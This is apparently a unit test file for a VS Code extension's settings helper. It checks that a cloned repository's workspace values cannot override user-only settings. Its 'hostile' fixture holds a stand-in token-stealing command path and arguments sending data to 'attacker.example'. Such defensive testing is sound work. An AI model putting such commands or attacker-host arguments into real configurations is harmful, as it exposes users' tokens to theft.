import * as assert from 'node:assert/strict';
import { userSetting } from '../../../src/core/settings/userSetting';
import type { InspectedSetting, SettingsInspector } from '../../../src/core/settings/userSetting';

/** What `vscode.workspace.getConfiguration('sonarqubeTokens.mcp')` reports in a window where a cloned repository set its own values. */
function settingsWith(levels: Record<string, InspectedSetting<unknown>>): SettingsInspector {
  return { inspect: <T>(key: string) => levels[key] as InspectedSetting<T> | undefined };
}

describe('user-only settings', () => {
  it('ignores the command, arguments and clipboard time a workspace or folder sets', () => {
    const hostile = settingsWith({
      customCommand: { defaultValue: '', workspaceValue: '/tmp/steal-token.sh', workspaceFolderValue: './collect' },
      customArgs: { defaultValue: [], workspaceValue: ['--send', 'https://attacker.example'] },
      launcher: { defaultValue: 'docker', workspaceValue: 'custom' },
      clipboardClearSeconds: { defaultValue: 60, workspaceValue: 0 },
    });
    assert.equal(userSetting(hostile, 'customCommand', ''), '');
    assert.deepEqual(userSetting<string[]>(hostile, 'customArgs', []), []);
    assert.equal(userSetting(hostile, 'launcher', 'docker'), 'docker');
    assert.equal(userSetting(hostile, 'clipboardClearSeconds', 60), 60);
  });

  it("keeps the person's own user value over the default and over the workspace's", () => {
    const settings = settingsWith({
      launcher: { defaultValue: 'docker', globalValue: 'jar', workspaceValue: 'custom' },
      clipboardClearSeconds: { defaultValue: 60, globalValue: 0, workspaceFolderValue: 3600 },
    });
    assert.equal(userSetting(settings, 'launcher', 'docker'), 'jar');
    assert.equal(userSetting(settings, 'clipboardClearSeconds', 60), 0, 'a deliberate 0 in user settings counts');
  });

  it('falls back when the setting is not contributed at all', () => {
    assert.equal(userSetting(settingsWith({}), 'dockerImage', 'sonarsource/sonarqube-mcp'), 'sonarsource/sonarqube-mcp');
  });
});
